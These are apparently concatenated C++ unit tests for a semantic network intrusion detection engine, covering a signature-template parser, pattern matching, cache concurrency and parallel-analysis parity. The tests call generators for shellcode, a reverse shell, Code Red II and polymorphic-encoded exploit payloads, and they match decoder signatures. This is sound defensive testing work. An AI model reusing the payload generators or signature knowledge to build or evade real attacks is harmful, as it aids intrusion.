  EXPECT_NE(e.message.find("nonsense"), std::string::npos);
}

TEST(Dsl, ErrorOnEmptyTemplate) {
  ParseError e = parse_err("template t { }");
  EXPECT_NE(e.message.find("no statements"), std::string::npos);
}

TEST(Dsl, ErrorOnUnterminatedBody) {
  ParseError e = parse_err("template t { loopback ");
  EXPECT_NE(e.message.find("end of input"), std::string::npos);
}

TEST(Dsl, ErrorCarriesLineNumber) {
  ParseError e = parse_err("template t {\n  loopback\n  bogus\n}");
  EXPECT_EQ(e.line, 3u);
}

TEST(Dsl, ErrorOnBadPattern) {
  ParseError e = parse_err("template t { store *A = xor(load(*A) K) }");
  EXPECT_FALSE(e.message.empty());
}

TEST(Dsl, ErrorOnSyscallNumberOverOneByte) {
  // 0x166 would previously truncate to 0x66 silently (matching socketcall
  // instead of failing); the parser must reject it.
  ParseError e = parse_err("template t { syscall 0x166 }");
  EXPECT_NE(e.message.find("syscall number must fit in one byte"),
            std::string::npos)
      << e.message;
}

TEST(Dsl, ErrorOnSubNumberOverOneByte) {
  ParseError e = parse_err("template t { syscall 0x66 sub 0x101 }");
  EXPECT_NE(e.message.find("sub number must fit in one byte"), std::string::npos)
      << e.message;
}

TEST(Dsl, BareUppercaseIdentIsSymbolicConst) {
  auto templates = parse_ok("template t { regwrite K }");
  ASSERT_EQ(templates.size(), 1u);
  EXPECT_EQ(templates[0].stmts[0].value->kind, PatKind::kConst);
  EXPECT_EQ(templates[0].stmts[0].value->var, "K");
}

TEST(Dsl, AnonymousStarHasNoBinding) {
  auto templates = parse_ok("template t { regwrite * }");
  EXPECT_EQ(templates[0].stmts[0].value->kind, PatKind::kAny);
  EXPECT_TRUE(templates[0].stmts[0].value->var.empty());
}

}  // namespace
}  // namespace senids::semantic

// ------------------------- shipped standard.tmpl equivalence ------------

#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "semantic/analyzer.hpp"
#include "semantic/library.hpp"

#include <fstream>
#include <sstream>

namespace senids::semantic {
namespace {

std::vector<Template> load_shipped_templates() {
  std::ifstream in(std::string(SENIDS_SOURCE_DIR) + "/templates/standard.tmpl");
  EXPECT_TRUE(in.good()) << "templates/standard.tmpl missing";
  std::ostringstream buf;
  buf << in.rdbuf();
  auto parsed = parse_templates(buf.str());
  if (auto* err = std::get_if<ParseError>(&parsed)) {
    ADD_FAILURE() << "standard.tmpl line " << err->line << ": " << err->message;
    return {};
  }
  return std::get<std::vector<Template>>(parsed);
}

TEST(ShippedTemplates, ParseAndMatchBuiltinCount) {
  auto shipped = load_shipped_templates();
  auto builtin = make_standard_library();
  EXPECT_EQ(shipped.size(), builtin.size());
}

TEST(ShippedTemplates, DetectionParityWithBuiltins) {
  auto shipped = load_shipped_templates();
  ASSERT_FALSE(shipped.empty());
  SemanticAnalyzer from_dsl(std::move(shipped));
  SemanticAnalyzer from_code(make_standard_library());

  auto classes = [](const std::vector<Detection>& ds) {
    std::vector<int> out;
    for (const auto& d : ds) out.push_back(static_cast<int>(d.threat));
    std::sort(out.begin(), out.end());
    out.erase(std::unique(out.begin(), out.end()), out.end());
    return out;
  };

  // Exploit corpus: every sample must classify identically.
  util::Prng prng(606);
  std::vector<util::Bytes> corpus;
  for (const auto& s : gen::make_shell_spawn_corpus()) corpus.push_back(s.code);
  corpus.push_back(gen::make_iis_asp_overflow_payload());
  corpus.push_back(gen::make_reverse_shell(0x0A000001u, 0x5c11u));
  for (std::uint64_t seed = 0; seed < 8; ++seed) {
    util::Prng p(seed);
    corpus.push_back(gen::admmutate_encode(corpus[1], p).bytes);
  }
  for (std::size_t i = 0; i < corpus.size(); ++i) {
    EXPECT_EQ(classes(from_dsl.analyze(corpus[i])), classes(from_code.analyze(corpus[i])))
        << "sample " << i;
  }
  // And a benign control stays clean for both.
  auto noise = prng.bytes(2048);
  EXPECT_TRUE(from_dsl.analyze(noise).empty());
  EXPECT_TRUE(from_code.analyze(noise).empty());
}

std::vector<Template> parse_ok2(std::string_view text) {
  auto result = parse_templates(text);
  if (auto* err = std::get_if<ParseError>(&result)) {
    ADD_FAILURE() << "parse error at line " << err->line << ": " << err->message;
    return {};
  }
  return std::get<std::vector<Template>>(result);
}

TEST(Dsl, DecodeStatementSetsHardenedFlags) {
  auto templates = parse_ok2("template t { decode *A = xor(load(*A), K) }");
  ASSERT_EQ(templates.size(), 1u);
  const Stmt& s = templates[0].stmts[0];
  EXPECT_EQ(s.width, 8);
  EXPECT_TRUE(s.require_invertible);
}

TEST(Dsl, StoreWidthKeywords) {
  auto templates = parse_ok2(
      "template t { store byte *A = K }\n"
      "template u { store dword * = 0x7801cbd3 }\n"
      "template v { store * = 0x1 }");
  ASSERT_EQ(templates.size(), 3u);
  EXPECT_EQ(templates[0].stmts[0].width, 8);
  EXPECT_FALSE(templates[0].stmts[0].require_invertible);
  EXPECT_EQ(templates[1].stmts[0].width, 32);
  EXPECT_EQ(templates[2].stmts[0].width, 0);
}

}  // namespace
}  // namespace senids::semantic

namespace senids::semantic {
namespace {

TEST(Dsl, AdvanceWithUnboundVariableRejected) {
  auto result = parse_templates("template t { advance Z\n loopback }");
  auto* err = std::get_if<ParseError>(&result);
  ASSERT_NE(err, nullptr);
  EXPECT_NE(err->message.find("'Z'"), std::string::npos);
}

TEST(Dsl, AdvanceBoundByStoreAccepted) {
  auto result =
      parse_templates("template t { decode *A = xor(load(*A), K)\n advance A\n loopback }");
  EXPECT_TRUE(std::holds_alternative<std::vector<Template>>(result));
}

}  // namespace
}  // namespace senids::semantic
