#include <gtest/gtest.h>

#include "semantic/pattern.hpp"

namespace senids::semantic {
namespace {

using ir::BinOp;
using ir::mk_bin;
using ir::mk_const;
using ir::mk_init;
using ir::mk_load;
using ir::mk_un;
using ir::mk_unknown;
using ir::UnOp;
using arch::RegFamily;

TEST(Pattern, AnyMatchesEverythingAndBinds) {
  Env env;
  auto e = mk_bin(BinOp::kAdd, mk_init(RegFamily::kAx), mk_const(4));
  EXPECT_TRUE(match_expr(p_any("X"), e, env));
  ASSERT_TRUE(env.contains("X"));
  EXPECT_TRUE(ir::struct_eq(env["X"], e));
}

TEST(Pattern, BindingConsistencyEnforced) {
  // add(A, A) must only match when both operands are identical. (xor of
  // identical operands would have been folded to 0 by the simplifier.)
  auto pat = p_bin(BinOp::kAdd, p_any("A"), p_any("A"));
  Env env1;
  EXPECT_TRUE(match_expr(pat, mk_bin(BinOp::kAdd, mk_load(mk_init(RegFamily::kAx), 8, 0),
                                     mk_load(mk_init(RegFamily::kAx), 8, 0)),
                         env1));
  Env env2;
  // Different generations: not identical, must not match.
  EXPECT_FALSE(match_expr(pat, mk_bin(BinOp::kAdd, mk_load(mk_init(RegFamily::kAx), 8, 0),
                                      mk_load(mk_init(RegFamily::kAx), 8, 1)),
                          env2));
}

TEST(Pattern, ConstRequiresConstant) {
  Env env;
  EXPECT_TRUE(match_expr(p_const("K"), mk_const(0x95), env));
  EXPECT_FALSE(match_expr(p_const("K2"), mk_init(RegFamily::kAx), env));
}

TEST(Pattern, ConstNonzeroRejectsZero) {
  Env env;
  EXPECT_FALSE(match_expr(p_const("K", /*nonzero=*/true), mk_const(0), env));
  EXPECT_TRUE(match_expr(p_const("K", /*nonzero=*/false), mk_const(0), env));
}

TEST(Pattern, FixedConstExactMatch) {
  Env env;
  EXPECT_TRUE(match_expr(p_fixed(0x6e69622f), mk_const(0x6e69622f), env));
  EXPECT_FALSE(match_expr(p_fixed(0x6e69622f), mk_const(0x6e69622e), env));
}

TEST(Pattern, LoadMatchesAddrRecursively) {
  Env env;
  auto pat = p_load(p_any("A"));
  EXPECT_TRUE(match_expr(pat, mk_load(mk_init(RegFamily::kSi), 8, 3), env));
  EXPECT_TRUE(ir::struct_eq(env["A"], mk_init(RegFamily::kSi)));
  EXPECT_FALSE(match_expr(pat, mk_const(5), env));
}

TEST(Pattern, BinMatchesCommutatively) {
  // Pattern xor(load(*), K) must match Xor whichever side the load is on
  // after canonicalization.
  auto pat = p_bin(BinOp::kXor, p_load(p_any("A")), p_const("K"));
  auto load = mk_load(mk_init(RegFamily::kAx), 8, 0);
  Env env1, env2;
  EXPECT_TRUE(match_expr(pat, mk_bin(BinOp::kXor, load, mk_const(0x95)), env1));
  EXPECT_TRUE(match_expr(pat, mk_bin(BinOp::kXor, mk_const(0x95), load), env2));
  EXPECT_TRUE(ir::struct_eq(env1["K"], mk_const(0x95)));
}

TEST(Pattern, BinNonCommutativeOrderMatters) {
  auto pat = p_bin(BinOp::kShl, p_any("X"), p_fixed(4));
  Env env;
  EXPECT_TRUE(match_expr(pat, mk_bin(BinOp::kShl, mk_init(RegFamily::kAx), mk_const(4)), env));
  Env env2;
  EXPECT_FALSE(
      match_expr(pat, mk_bin(BinOp::kShl, mk_init(RegFamily::kAx), mk_const(5)), env2));
}

TEST(Pattern, BinWrongOperatorFails) {
  auto pat = p_bin(BinOp::kXor, p_any(), p_any());
  Env env;
  EXPECT_FALSE(match_expr(pat, mk_bin(BinOp::kOr, mk_init(RegFamily::kAx), mk_unknown(0)),
                          env));
}

TEST(Pattern, UnMatches) {
  auto pat = p_un(UnOp::kNot, p_load(p_any("A")));
  Env env;
  EXPECT_TRUE(match_expr(pat, mk_un(UnOp::kNot, mk_load(mk_init(RegFamily::kDi), 8, 0)), env));
  EXPECT_FALSE(match_expr(pat, mk_load(mk_init(RegFamily::kDi), 8, 0), env));
}

TEST(Pattern, TransformMatchesOrAndNotTree) {
  // dec = And(Or(load,k), Not(And(load,k))) — the ADMmutate alternate
  // decode expression.
  auto load = mk_load(mk_init(RegFamily::kSi), 8, 0);
  auto k = mk_const(0x5a);
  auto value = mk_bin(BinOp::kAnd, mk_bin(BinOp::kOr, load, k),
                      mk_un(UnOp::kNot, mk_bin(BinOp::kAnd, load, k)));
  auto pat = p_transform(p_load(p_any("A")), {BinOp::kOr, BinOp::kAnd}, true);
  Env env;
  EXPECT_TRUE(match_expr(pat, value, env));
  EXPECT_TRUE(ir::struct_eq(env["A"], mk_init(RegFamily::kSi)));
}

TEST(Pattern, TransformRejectsDisallowedOperator) {
  auto load = mk_load(mk_init(RegFamily::kSi), 8, 0);
  auto value = mk_bin(BinOp::kXor, load, mk_const(0x5a));
  auto pat = p_transform(p_load(p_any("A")), {BinOp::kOr, BinOp::kAnd}, true);
  Env env;
  EXPECT_FALSE(match_expr(pat, value, env));
}

TEST(Pattern, TransformRequiresBaseLeaf) {
  // Pure-constant tree: no load leaf -> no match.
  auto value = mk_bin(BinOp::kOr, mk_unknown(1), mk_const(0x5a));
  auto pat = p_transform(p_load(p_any("A")), {BinOp::kOr, BinOp::kAnd}, true);
  Env env;
  EXPECT_FALSE(match_expr(pat, value, env));
}

TEST(Pattern, TransformRequiresAtLeastOneOp) {
  // A bare load is not a transformation.
  auto load = mk_load(mk_init(RegFamily::kSi), 8, 0);
  auto pat = p_transform(p_load(p_any("A")), {BinOp::kOr, BinOp::kAnd}, true);
  Env env;
  EXPECT_FALSE(match_expr(pat, load, env));
}

TEST(Pattern, TransformRequiresConstLeafWhenAsked) {
  auto load = mk_load(mk_init(RegFamily::kSi), 8, 0);
  auto value = mk_bin(BinOp::kOr, load, mk_unknown(7));
  auto strict = p_transform(p_load(p_any("A")), {BinOp::kOr}, true, /*require_const=*/true);
  auto loose = p_transform(p_load(p_any("A")), {BinOp::kOr}, true, /*require_const=*/false);
  Env e1, e2;
  EXPECT_FALSE(match_expr(strict, value, e1));
  // The unknown leaf is neither const nor base -> the walk itself fails.
  EXPECT_FALSE(match_expr(loose, value, e2));
  // With a constant second leaf, the strict form matches.
  Env e3;
  EXPECT_TRUE(match_expr(strict, mk_bin(BinOp::kOr, load, mk_const(3)), e3));
}

TEST(Pattern, TransformBaseBindingConsistent) {
  // Two different loads in one tree must not unify to one variable.
  auto l1 = mk_load(mk_init(RegFamily::kSi), 8, 0);
  auto l2 = mk_load(mk_init(RegFamily::kDi), 8, 0);
  auto value = mk_bin(BinOp::kAnd, mk_bin(BinOp::kOr, l1, mk_const(1)),
                      mk_bin(BinOp::kOr, l2, mk_const(2)));
  auto pat = p_transform(p_load(p_any("A")), {BinOp::kOr, BinOp::kAnd}, true);
  Env env;
  EXPECT_FALSE(match_expr(pat, value, env));
}

TEST(Pattern, RorDecoderTransform) {
  auto load = mk_load(mk_init(RegFamily::kBx), 8, 0);
  auto value = mk_bin(BinOp::kRor, load, mk_const(3));
  auto pat = p_transform(p_load(p_any("A")), {BinOp::kRol, BinOp::kRor}, false);
  Env env;
  EXPECT_TRUE(match_expr(pat, value, env));
}

TEST(Pattern, ToStringRenders) {
  auto pat = p_bin(BinOp::kXor, p_load(p_any("A")), p_const("K"));
  EXPECT_EQ(to_string(pat), "xor(load(*:A), const!0:K)");
  EXPECT_EQ(to_string(p_fixed(0x10)), "0x10");
  auto tr = p_transform(p_load(p_any("A")), {BinOp::kOr, BinOp::kAnd}, true);
  EXPECT_EQ(to_string(tr), "transform<or|and|not>(load(*:A))");
}

TEST(Pattern, NullSafety) {
  Env env;
  EXPECT_FALSE(match_expr(nullptr, mk_const(1), env));
  EXPECT_FALSE(match_expr(p_any(), nullptr, env));
}

}  // namespace
}  // namespace senids::semantic
