// Concurrency stress for the verdict cache: many threads hammering a
// deliberately small cache so lookups, inserts, evictions, and clears
// constantly interleave. Runs TSan-instrumented in tier-1 (see
// tests/CMakeLists.txt); the assertions here are the invariants that
// must hold on *every* schedule — per-key verdict integrity, exact
// hit/miss accounting, and the byte budget.
#include <gtest/gtest.h>

#include <atomic>
#include <cstdint>
#include <thread>
#include <vector>

#include "cache/sha256.hpp"
#include "cache/verdict_cache.hpp"
#include "core/senids.hpp"
#include "gen/codered.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"
#include "util/prng.hpp"

namespace senids {
namespace {

cache::Digest key_of(std::uint64_t n) {
  return cache::Sha256::hash(
      util::ByteView{reinterpret_cast<const std::uint8_t*>(&n), sizeof n});
}

// Deterministic verdict per key so any thread can validate any hit: the
// cache must never serve key A's verdict for key B, no matter how the
// schedules interleave.
cache::Verdict verdict_of(std::uint64_t n) {
  cache::Verdict v;
  cache::CachedAlert a;
  a.threat = semantic::ThreatClass::kCustom;
  a.template_name = "stress-" + std::to_string(n);
  a.frame_offset = n;
  v.alerts.push_back(std::move(a));
  v.bytes_analyzed = n * 13 + 7;
  return v;
}

TEST(CacheStress, ConcurrentLookupInsertSmallBudget) {
  // Budget sized for a fraction of the key space: every thread keeps
  // evicting the others' entries, so the miss->insert->evict path runs
  // continuously under contention.
  constexpr std::size_t kThreads = 8;
  constexpr std::size_t kOpsPerThread = 4000;
  constexpr std::uint64_t kKeySpace = 512;
  cache::VerdictCache c({16 * 1024, 8});

  std::atomic<std::uint64_t> corrupt{0};
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (std::size_t t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      util::Prng prng(0x5eed + t);
      for (std::size_t i = 0; i < kOpsPerThread; ++i) {
        const std::uint64_t n = prng.next() % kKeySpace;
        const cache::Digest key = key_of(n);
        if (auto got = c.lookup(key)) {
          if (got->alerts.size() != 1 || got->alerts[0].frame_offset != n ||
              got->bytes_analyzed != n * 13 + 7) {
            ++corrupt;
          }
        } else {
          c.insert(key, verdict_of(n));
        }
      }
    });
  }
  for (auto& th : threads) th.join();

  EXPECT_EQ(corrupt.load(), 0u);
  const auto s = c.stats();
  EXPECT_EQ(s.lookups, kThreads * kOpsPerThread);
  EXPECT_EQ(s.hits + s.misses, s.lookups);
  EXPECT_EQ(s.insertions - s.evictions, s.entries);
  EXPECT_LE(s.bytes, c.byte_budget());
  EXPECT_GT(s.hits, 0u);
  EXPECT_GT(s.evictions, 0u);  // the budget really was under pressure
}

TEST(CacheStress, AllThreadsRaceOneKey) {
  // The racing-miss scenario the engine produces when identical payloads
  // land on every worker at once: all threads miss, all insert, exactly
  // one entry must survive and every subsequent hit must be intact.
  constexpr std::size_t kThreads = 8;
  cache::VerdictCache c({1 << 20, 4});
  const std::uint64_t n = 42;
  const cache::Digest key = key_of(n);

  std::atomic<std::uint64_t> corrupt{0};
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (std::size_t t = 0; t < kThreads; ++t) {
    threads.emplace_back([&] {
      for (int i = 0; i < 1000; ++i) {
        if (auto got = c.lookup(key)) {
          if (got->alerts[0].frame_offset != n) ++corrupt;
        } else {
          c.insert(key, verdict_of(n));
        }
      }
    });
  }
  for (auto& th : threads) th.join();

  EXPECT_EQ(corrupt.load(), 0u);
  const auto s = c.stats();
  EXPECT_EQ(s.entries, 1u);
  EXPECT_EQ(s.hits + s.misses, s.lookups);
}

TEST(CacheStress, ClearRacesWithWorkers) {
  // clear() may run while workers are mid-flight; afterwards the
  // accounting must still balance and the cache must still function.
  constexpr std::size_t kThreads = 6;
  cache::VerdictCache c({64 * 1024, 4});
  std::atomic<bool> stop{false};

  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (std::size_t t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      util::Prng prng(0xc1ea7 + t);
      for (int i = 0; i < 3000; ++i) {
        const std::uint64_t n = prng.next() % 64;
        const cache::Digest key = key_of(n);
        if (!c.lookup(key)) c.insert(key, verdict_of(n));
      }
    });
  }
  std::thread clearer([&] {
    while (!stop.load(std::memory_order_relaxed)) c.clear();
  });
  for (auto& th : threads) th.join();
  stop.store(true);
  clearer.join();

  const auto s = c.stats();
  EXPECT_EQ(s.hits + s.misses, s.lookups);
  EXPECT_LE(s.bytes, c.byte_budget());
  // Still alive after the storm.
  c.insert(key_of(7), verdict_of(7));
  auto got = c.lookup(key_of(7));
  ASSERT_TRUE(got.has_value());
  EXPECT_EQ(got->alerts[0].frame_offset, 7u);
}

TEST(CacheStress, ParallelEngineDuplicateFlows) {
  // Engine-level stress: four workers share one cache while analyzing a
  // capture that is mostly duplicates, so hit, miss, and racing-insert
  // paths all fire. The per-unit accounting must stay exact and the
  // alert list must match a serial cache-off engine's.
  using net::Endpoint;
  using net::Ipv4Addr;
  gen::TraceBuilder tb(77);
  const util::Bytes request = gen::make_code_red_ii_request();
  const auto corpus = gen::make_shell_spawn_corpus();
  for (std::size_t i = 0; i < 24; ++i) {
    const Endpoint atk{Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(10 + i)),
                       static_cast<std::uint16_t>(30000 + i)};
    tb.add_tcp_flow(atk, Endpoint{Ipv4Addr::from_octets(10, 0, 0, 20), 80},
                    i % 3 ? util::ByteView{request}
                          : util::ByteView{corpus[i % corpus.size()].code});
  }
  const pcap::Capture capture = tb.take();

  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  options.threads = 4;
  options.verdict_cache_bytes = 1 << 20;
  core::NidsEngine on(options);
  const core::Report r_on = on.process_capture(capture);

  EXPECT_EQ(r_on.stats.cache_hits + r_on.stats.cache_misses + r_on.stats.cache_bypass,
            r_on.stats.units_analyzed);
  EXPECT_GT(r_on.stats.cache_hits, 0u);
  ASSERT_NE(on.verdict_cache(), nullptr);
  const auto cs = on.verdict_cache()->stats();
  EXPECT_EQ(cs.hits + cs.misses, cs.lookups);
  EXPECT_LE(cs.bytes, cs.byte_budget);

  core::NidsOptions off_options;
  off_options.classifier.analyze_everything = true;
  core::NidsEngine off(off_options);
  const core::Report r_off = off.process_capture(capture);
  ASSERT_EQ(r_off.alerts.size(), r_on.alerts.size());
  for (std::size_t i = 0; i < r_off.alerts.size(); ++i) {
    EXPECT_EQ(r_off.alerts[i].template_name, r_on.alerts[i].template_name) << i;
    EXPECT_EQ(r_off.alerts[i].threat, r_on.alerts[i].threat) << i;
    EXPECT_EQ(r_off.alerts[i].frame_offset, r_on.alerts[i].frame_offset) << i;
  }
}

}  // namespace
}  // namespace senids
