// Regression suite for the parallel analysis path and its stat
// semantics:
//
//  - Logical-work counters are cache-invariant: a verdict-cache hit
//    replays the stored frames_extracted / frames_emulated /
//    emulated_steps, so cache-on and cache-off runs report identical
//    figures, and bytes_analyzed + cache_bytes_saved equals the
//    cache-off bytes_analyzed (the one counter that stays fresh-only).
//  - A frame is emulated at most once per unit even when the
//    decoder-confirmation pass and the deep-analysis pass both want it
//    (the per-frame memo in AnalysisContext).
//  - Worker count, dequeue batch size, and the threads == 0 shard-local
//    mode are invisible in the report: every combination reproduces the
//    serial baseline byte-for-byte.
//  - An AnalysisContext reused across units carries no state between
//    them.
#include <gtest/gtest.h>

#include <vector>

#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"

namespace senids::core {
namespace {

using net::Endpoint;
using net::Ipv4Addr;
using semantic::ThreatClass;

const Ipv4Addr kServer = Ipv4Addr::from_octets(10, 0, 0, 20);
const Endpoint kClient{Ipv4Addr::from_octets(198, 51, 100, 10), 45000};

constexpr std::size_t kCacheBytes = 8u << 20;

Endpoint attacker(std::size_t i) {
  return Endpoint{Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(10 + i)),
                  static_cast<std::uint16_t>(30000 + i)};
}

void expect_alerts_equal(const std::vector<Alert>& a, const std::vector<Alert>& b) {
  ASSERT_EQ(a.size(), b.size());
  for (std::size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].ts_sec, b[i].ts_sec) << "alert " << i;
    EXPECT_EQ(a[i].src.value, b[i].src.value) << "alert " << i;
    EXPECT_EQ(a[i].dst.value, b[i].dst.value) << "alert " << i;
    EXPECT_EQ(a[i].src_port, b[i].src_port) << "alert " << i;
    EXPECT_EQ(a[i].dst_port, b[i].dst_port) << "alert " << i;
    EXPECT_EQ(a[i].threat, b[i].threat) << "alert " << i;
    EXPECT_EQ(a[i].template_name, b[i].template_name) << "alert " << i;
    EXPECT_EQ(a[i].frame_reason, b[i].frame_reason) << "alert " << i;
    EXPECT_EQ(a[i].frame_offset, b[i].frame_offset) << "alert " << i;
  }
}

// ------------------------------------------------------------- corpora

/// Duplicate-heavy: the same Code Red request from many sources, plus
/// benign noise. Duplicates are what make the verdict cache hit.
pcap::Capture duplicate_corpus(std::uint64_t seed, std::size_t flows = 16) {
  gen::TraceBuilder tb(seed);
  const util::Bytes request = gen::make_code_red_ii_request();
  for (std::size_t i = 0; i < flows; ++i) {
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, request);
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
  }
  return tb.take();
}

/// The same polymorphic decoder payload repeated across sources: every
/// unit carries a decryption loop, so emulation-dependent counters are
/// nonzero, and the repeats make the cache hit.
pcap::Capture duplicate_decoder_corpus(std::uint64_t seed, std::size_t flows = 6) {
  gen::TraceBuilder tb(seed);
  const auto poly =
      gen::admmutate_encode(gen::make_shell_spawn_corpus()[1].code, tb.prng());
  const util::Bytes payload = gen::wrap_in_overflow(poly.bytes, tb.prng());
  for (std::size_t i = 0; i < flows; ++i) {
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, payload);
  }
  return tb.take();
}

pcap::Capture mixed_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::make_shell_spawn_corpus();
  const util::Bytes request = gen::make_code_red_ii_request();
  for (std::size_t i = 0; i < 6; ++i) {
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, request);
    const auto adm = gen::admmutate_encode(corpus[i % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i + 10), Endpoint{kServer, 80}, adm.bytes);
    const auto clet = gen::clet_encode(corpus[(i + 3) % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i + 20), Endpoint{kServer, 80}, clet.bytes);
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
  }
  return tb.take();
}

// --------------------------------------- cache-invariant work counters

/// Cache-off and cache-on runs of the same capture must agree on every
/// logical-work counter, and on the bytes identity.
void expect_cache_stats_parity(const pcap::Capture& capture, const NidsOptions& base) {
  NidsOptions off = base;
  off.verdict_cache_bytes = 0;
  NidsEngine engine_off(off);
  const Report r_off = engine_off.process_capture(capture);

  NidsOptions on = base;
  on.verdict_cache_bytes = kCacheBytes;
  NidsEngine engine_on(on);
  const Report r_on = engine_on.process_capture(capture);

  ASSERT_GT(r_on.stats.cache_hits, 0u) << "corpus produced no cache hits";
  expect_alerts_equal(r_off.alerts, r_on.alerts);
  EXPECT_EQ(r_off.stats.units_analyzed, r_on.stats.units_analyzed);
  // A hit folds the verdict's stored work figures back into the stats,
  // so the cache is invisible in the logical-work counters...
  EXPECT_EQ(r_off.stats.frames_extracted, r_on.stats.frames_extracted);
  EXPECT_EQ(r_off.stats.frames_emulated, r_on.stats.frames_emulated);
  EXPECT_EQ(r_off.stats.emulated_steps, r_on.stats.emulated_steps);
  // ...except bytes_analyzed, which stays fresh-only and pairs with
  // cache_bytes_saved to make the documented identity.
  EXPECT_LT(r_on.stats.bytes_analyzed, r_off.stats.bytes_analyzed);
  EXPECT_EQ(r_on.stats.bytes_analyzed + r_on.stats.cache_bytes_saved,
            r_off.stats.bytes_analyzed);
}

TEST(CacheStatsParity, StaticPipeline) {
  NidsOptions options;
  options.classifier.analyze_everything = true;
  expect_cache_stats_parity(duplicate_corpus(301), options);
}

TEST(CacheStatsParity, WithEmulation) {
  NidsOptions options;
  options.classifier.analyze_everything = true;
  options.enable_emulation = true;
  expect_cache_stats_parity(duplicate_decoder_corpus(302), options);
}

TEST(CacheStatsParity, WithConfirmAndEmulation) {
  NidsOptions options;
  options.classifier.analyze_everything = true;
  options.enable_emulation = true;
  options.confirm_decoders_by_emulation = true;
  expect_cache_stats_parity(duplicate_decoder_corpus(303), options);
}

// ------------------------------------------- one emulation per frame

TEST(EmulationMemo, ConfirmPlusDeepEmulatesEachFrameOnce) {
  // With confirmation and deep analysis both on, each frame's sandbox
  // run must be shared between the two passes: the totals match a run
  // with deep analysis alone, which emulates every frame exactly once.
  const pcap::Capture capture = duplicate_decoder_corpus(304, /*flows=*/4);

  NidsOptions deep_only;
  deep_only.classifier.analyze_everything = true;
  deep_only.enable_emulation = true;
  NidsEngine engine_deep(deep_only);
  const Report r_deep = engine_deep.process_capture(capture);
  ASSERT_GT(r_deep.stats.frames_emulated, 0u);
  // Deep analysis emulates every extracted frame once.
  EXPECT_EQ(r_deep.stats.frames_emulated, r_deep.stats.frames_extracted);

  NidsOptions both = deep_only;
  both.confirm_decoders_by_emulation = true;
  NidsEngine engine_both(both);
  const Report r_both = engine_both.process_capture(capture);
  EXPECT_EQ(r_both.stats.frames_extracted, r_deep.stats.frames_extracted);
  EXPECT_EQ(r_both.stats.frames_emulated, r_deep.stats.frames_emulated);
  EXPECT_EQ(r_both.stats.emulated_steps, r_deep.stats.emulated_steps);
  // Confirmation must not cost detections either: the decoder decodes,
  // so the static decryption-loop alert survives.
  EXPECT_TRUE(r_both.detected(ThreatClass::kDecryptionLoop));
  expect_alerts_equal(r_deep.alerts, r_both.alerts);
}

// ------------------------------ worker count / batch size transparency

TEST(WorkerScaling, ThreadsAndBatchSizeDoNotChangeTheReport) {
  const pcap::Capture capture = mixed_corpus(305);

  NidsOptions base;
  base.classifier.analyze_everything = true;
  base.threads = 1;
  NidsEngine baseline(base);
  const Report r_base = baseline.process_capture(capture);
  ASSERT_FALSE(r_base.alerts.empty());

  for (std::size_t threads : {std::size_t{1}, std::size_t{8}}) {
    for (std::size_t unit_batch : {std::size_t{1}, std::size_t{8}}) {
      SCOPED_TRACE(::testing::Message()
                   << "threads=" << threads << " unit_batch=" << unit_batch);
      NidsOptions options = base;
      options.threads = threads;
      options.unit_batch = unit_batch;
      NidsEngine engine(options);
      const Report r = engine.process_capture(capture);
      expect_alerts_equal(r_base.alerts, r.alerts);
      EXPECT_EQ(r_base.stats.packets, r.stats.packets);
      EXPECT_EQ(r_base.stats.units_analyzed, r.stats.units_analyzed);
      EXPECT_EQ(r_base.stats.frames_extracted, r.stats.frames_extracted);
      EXPECT_EQ(r_base.stats.bytes_analyzed, r.stats.bytes_analyzed);
    }
  }
}

TEST(WorkerScaling, ThreadsZeroRunsShardLocal) {
  // threads == 0, shards == N: stages (b)-(e) run inline on each shard's
  // consumer thread with a per-shard context and no global unit queue.
  // The report must still reproduce the serial single-shard baseline.
  const pcap::Capture capture = mixed_corpus(306);

  NidsOptions base;
  base.classifier.analyze_everything = true;
  base.threads = 1;
  base.shards = 1;
  NidsEngine baseline(base);
  const Report r_base = baseline.process_capture(capture);
  ASSERT_FALSE(r_base.alerts.empty());

  for (std::size_t shards : {std::size_t{1}, std::size_t{4}}) {
    SCOPED_TRACE(::testing::Message() << "shards=" << shards);
    NidsOptions options = base;
    options.threads = 0;
    options.shards = shards;
    NidsEngine engine(options);
    const Report r = engine.process_capture(capture);
    expect_alerts_equal(r_base.alerts, r.alerts);
    EXPECT_EQ(r_base.stats.units_analyzed, r.stats.units_analyzed);
    EXPECT_EQ(r_base.stats.frames_extracted, r.stats.frames_extracted);
    EXPECT_EQ(r_base.stats.bytes_analyzed, r.stats.bytes_analyzed);
  }
}

// ------------------------------------------------ context reuse safety

TEST(AnalysisContextReuse, NoStateLeaksBetweenUnits) {
  // One context analyzing malicious, then benign, then the same
  // malicious payload again: the benign unit must come back clean (no
  // leaked frames or fired templates) and the repeat must reproduce the
  // first result exactly.
  gen::TraceBuilder tb(307);
  const auto poly =
      gen::admmutate_encode(gen::make_shell_spawn_corpus()[1].code, tb.prng());
  const util::Bytes bad = gen::wrap_in_overflow(poly.bytes, tb.prng());
  const util::Bytes good = gen::make_benign_payload(tb.prng()).data;

  NidsOptions options;
  options.enable_emulation = true;
  options.confirm_decoders_by_emulation = true;
  const NidsEngine engine(options);
